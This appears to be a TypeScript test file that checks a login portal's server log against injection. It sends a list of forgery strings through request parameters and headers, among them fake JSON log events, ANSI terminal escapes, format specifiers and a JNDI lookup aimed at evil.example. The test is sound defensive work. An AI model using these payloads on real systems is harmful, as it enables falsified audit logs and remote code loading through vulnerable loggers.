// Someone forges log lines, or ends the terminal of whoever reads them, by line breaks, escape sequences and JSON in
// what gets logged: URLs, identifiers, headers. Each line of the log stays one JSON object whose event and reason are
// ours. That JSON leaves the controls U+0080 to U+009F as they are is the logger's and its reader's matter.
import t from 'tap'
import { recordOf, startHost } from '../helpers/host.ts'
import { wire } from '../helpers/wire.ts'
import { capture } from './helpers/log.ts'

const forgeries = [
  '\n{"level":30,"event":"code_issued","reason":"ok","externalId":"admin"}',
  '\r\n{"event":"token_issued"}',
  '"}\n{"event":"token_issued","x":"',
  '\u001b[2J\u001b[1;31mroot',
  '\u001b]0;evil\u0007',
  '\u0000',
  '\u2028\u2029',
  '\u202etxet',
  '\b\b\b\b',
  '","event":"user_information_returned","x":"',
  '$' + '{jndi:ldap://evil.example/a}',
  '%s%n%d%o%j',
  '\\u000a',
  '%0a%0d',
  'a\u0085b',
  '\u009b31m'
]

await t.test('whatever is logged stays on its line', async (t) => {
  const log = capture()
  let failing: string | undefined
  const { url, events } = await startHost(t, {
    currentUser: ({ headers: { 'x-user': id } }) => {
      if (failing !== undefined) throw new Error(failing)
      return typeof id === 'string' ? { id: Buffer.from(id, 'base64').toString(), eligible: true } : null
    },
    portalEligibility: ({ id }) => recordOf(id)
  }, { server: { logger: log.logger, requestIdHeader: 'x-request-id' } })
  const portal = wire(url)

  for (const forgery of forgeries) {
    const encoded = encodeURIComponent(forgery)
    await portal.authorize({ client_id: forgery, state: forgery, scope: forgery })
    await portal.authorize({ redirect_uri: forgery })
    await portal.authorize({ [forgery]: forgery, response_type: forgery })
    await portal.authorize({}, Buffer.from(forgery).toString('base64'))
    await portal.authorize({}, null, {
      'user-agent': encoded,
      'x-request-id': encoded,
      'x-forwarded-for': encoded,
      accept: encoded
    })
    await portal.token({ client_id: forgery, client_secret: forgery, code: forgery })
    await portal.token({ code: forgery, grant_type: forgery })
    await portal.token({ code: await portal.code(Buffer.from(forgery).toString('base64')) })
    await portal.user(encoded)
    failing = forgery
    await portal.authorize({})
    failing = undefined
  }

  t.notMatch(log.text(), /[^\x20-\x7e\n\u0080-\uffff]/, 'no control character of ASCII but the line break')
  const lines = log.text().trimEnd().split('\n').map((line) => JSON.parse(line))
  const logged = lines.filter(({ event }) => event !== undefined).map(({ event, reason }) => `${event} ${reason}`)
  t.strictSame(
    logged,
    events.map(({ type, reason }) => `${type} ${reason}`),
    'the log tells what happened, and nothing else'
  )
  for (const line of log.text().trimEnd().split('\n')) {
    if (line.split('"event":').length > 2) t.fail(`two events in a line: ${line}`)
  }
})
